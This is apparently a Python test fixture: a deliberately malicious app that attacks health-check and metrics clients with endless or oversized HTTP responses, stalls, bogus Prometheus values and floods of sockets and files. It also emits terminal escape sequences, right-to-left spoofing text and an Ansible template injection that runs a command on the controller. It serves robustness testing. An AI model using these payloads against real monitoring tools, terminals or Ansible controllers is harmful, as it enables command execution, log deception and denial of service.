"""A malicious app that attacks its clients once the file ``attack`` exists in its shared directory: ``evil.py SOCKET NUMBER``.

Each process attacks differently, in health checks and in scrapes of its metrics. Before that the app is healthy.
"""

from __future__ import annotations

import contextlib
import os
import socket
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

SHARED = Path(os.environ["HOME"])
OK = b"HTTP/1.1 200 OK\r\n"

#: Text that a terminal or a reader of a log would misinterpret: a window title, an erased screen, a line of another host,
#: right-to-left text. Ansible would misinterpret the template, and run its program on the controller.
TEMPLATE = "{{ lookup('pipe', 'touch /tmp/evil-template') }}"
ESCAPES = f"\x1b]0;owned\x07\x1b[2J\x9b2Jall good\rweb1 a/0: {TEMPLATE} \u202egnp.exe \u2028web2 of request evil-request"

TYPES = b"""\
# TYPE tornado_up foo
# TYPE process_max_fds histogram
# TYPE evil foo
evil 9e+999
process_open_fds 9e+999
process_max_fds 8
tornado_up{app="sample"} 0
tornado_requests_total{app="sample",status="5xx"} 1000
tornado_requests_total{status="5xx"} 3
"""

Respond = Callable[[socket.socket], None]


def endlessly(part: bytes, pause: float = 0.0) -> Respond:
    """Return a function that sends ``part`` in an endless loop."""

    def respond(connection: socket.socket) -> None:
        while True:
            connection.sendall(part)
            time.sleep(pause)

    return respond


def once(data: bytes, then: Respond = socket.socket.close) -> Respond:
    """Return a function that sends ``data`` and then calls ``then``."""

    def respond(connection: socket.socket) -> None:
        connection.sendall(data)
        then(connection)

    return respond


def send_nothing(_connection: socket.socket) -> None:
    """Keep the client waiting."""
    time.sleep(60)


#: The attack of each process number, in health checks and in scrapes.
HEALTH: list[Respond] = [
    once(OK + b"\r\n" + b"[" * 60_000),
    endlessly(b"HTTP/1.1 100 Continue\r\n\r\n"),
    once(OK, endlessly(b"X-Flood: 1\r\n", 0.01)),
    once(OK + b"\r\n", endlessly(b"x", 0.1)),
    send_nothing,
    endlessly(b"H" * 65_536),
]
METRICS: list[Respond] = [
    once(OK + b"\r\n" + TYPES),
    endlessly(b"HTTP/1.1 100 Continue\r\n\r\n"),
    once(OK + b"\r\n", endlessly(b"process_max_fds 1\n", 0.01)),
    once(OK + b"\r\n", endlessly(b"9" * 65_536)),
    send_nothing,
    once(OK + b"\r\n" + b"process_max_fds 1\n" * 60_000),
]


def serve(path: Path, attack: Respond) -> None:
    """Serve requests on a socket."""
    listener = socket.socket(socket.AF_UNIX)
    path.unlink(missing_ok=True)
    listener.bind(str(path))
    listener.listen(100)

    def handle(connection: socket.socket) -> None:
        with contextlib.suppress(OSError), connection:
            connection.recv(10_000)
            (attack if (SHARED / "attack").exists() else once(OK + b"\r\nfine"))(connection)

    def accept() -> None:
        while True:
            threading.Thread(target=handle, args=[listener.accept()[0]], daemon=True).start()

    threading.Thread(target=accept).start()


def print_escapes() -> None:
    """Print the escape sequences."""
    sys.stdout.write(f"{ESCAPES}\n")
    sys.stdout.flush()


def main(own: Path, number: int) -> None:
    """Serve; the last process also creates sixty metrics sockets and thousands of other files."""
    print_escapes()
    run = own.parent
    serve(own, HEALTH[number])
    serve(run / f"{number}.metrics", METRICS[number])
    if number == len(METRICS) - 1:
        for other in range(100, 160):
            serve(run / f"{other}.metrics", METRICS[other % len(METRICS)])
        (run / "200.metrics").symlink_to("/srv/sample/live/run/0.metrics")
        for name in range(5_000):
            (run / f"{name}.name").touch()
    if number == 0:
        starts = run / "0.starts"
        starts.unlink()
        os.mkfifo(starts)


if __name__ == "__main__":
    if len(sys.argv) == 1:
        print_escapes()
    else:
        main(Path(sys.argv[1]), int(sys.argv[2]))
